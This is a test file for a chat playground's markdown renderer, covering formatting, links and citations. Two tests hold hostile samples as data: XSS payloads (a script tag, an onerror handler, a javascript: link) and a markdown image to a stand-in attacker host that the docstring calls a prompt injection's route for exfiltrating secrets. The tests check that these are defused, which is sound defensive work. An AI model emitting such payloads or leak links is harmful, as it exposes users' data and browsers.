from html.parser import HTMLParser

from playground.rendering import render_markdown


def test_markdown_is_rendered_and_code_highlighted():
    html = render_markdown(
        "**bold** and a list:\n\n- one\n- two\n\n```python\ndef f():\n    return 1\n```"
    )
    assert "<strong>bold</strong>" in html and "<li>one</li>" in html
    assert 'class="highlight"' in html and '<span class="k">def</span>' in html


def test_html_in_a_reply_is_neutralised():
    html = render_markdown(
        '<script>alert(1)</script><img src=x onerror="alert(2)"> [x](javascript:alert(3))'
    )
    assert "<script" not in html and "onerror" not in html and "javascript:" not in html


def test_a_reply_cannot_make_the_browser_fetch_from_another_host():
    """A prompt injection's way out: ![x](https://evil.example/?leak=SECRET) would load at once."""
    html = render_markdown(
        '![chart](https://evil.example/c.png?leak=SECRET) and <img src="https://evil.example/x"> '
        "too"
    )
    assert "<img" not in html
    assert (
        '<a href="https://evil.example/c.png?leak=SECRET"' in html
        and "Image: chart</a> and" in html
    )
    assert html.rstrip().endswith("too</p>")  # the text around an image is kept


def test_links_open_apart_with_no_opener_or_referrer():
    html = render_markdown("[docs](https://docs.bigmodel.cn/)")
    assert 'href="https://docs.bigmodel.cn/"' in html and 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_an_image_link_is_named_in_words_not_by_a_glyph_a_font_may_lack():
    html = render_markdown(
        "![](https://example.com/a.png) and ![a chart](https://example.com/c.png)"
    )
    assert "🖼" not in html
    assert ">Image</a> and" in html and ">Image: a chart</a>" in html


class _Links(HTMLParser):
    """Each link of a rendering: its attributes and its text, and whether it is in a <sup>."""

    def __init__(self):
        super().__init__()
        self.links: list[dict] = []
        self._in = {"a": False, "sup": False}

    def handle_starttag(self, tag, attrs):
        if tag == "a":
            self.links.append({**dict(attrs), "text": "", "sup": self._in["sup"]})
        self._in[tag] = True

    def handle_endtag(self, tag):
        self._in[tag] = False

    def handle_data(self, data):
        if self._in["a"]:
            self.links[-1]["text"] += data


def links_of(html: str) -> list[dict]:
    parser = _Links()
    parser.feed(html)
    return parser.links


SOURCES = [
    {"refer": "ref_1", "title": 'Rivers "and" <lakes>', "link": "https://search.example.com/r/1"},
    {"refer": "ref_2", "title": "Deltas", "link": "https://search.example.com/r/2?a=1&b=2"},
]


def test_a_citation_links_to_its_source_opening_apart_numbered_as_the_sources_list():
    html = render_markdown("Rivers flow downhill [ref_2], mostly [ref_1].", SOURCES)
    assert "ref_" not in html
    second, first = links_of(html)
    assert second == {
        "href": "https://search.example.com/r/2?a=1&b=2",
        "title": "Deltas",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
        "text": "[2]",
        "sup": True,
    }
    assert (first["href"], first["title"], first["text"]) == (
        "https://search.example.com/r/1",
        'Rivers "and" <lakes>',
        "[1]",
    )


def test_a_citation_of_no_source_and_one_in_code_stay_as_written():
    text = "Unknown [ref_9]. Code `[ref_1]`.\n\n```\nprint('[ref_2]')\n```"
    html = render_markdown(text, SOURCES)
    assert links_of(html) == []
    assert "[ref_9]" in html and "[ref_1]" in html and "[ref_2]" in html
    assert links_of(render_markdown("No sources [ref_1].")) == []
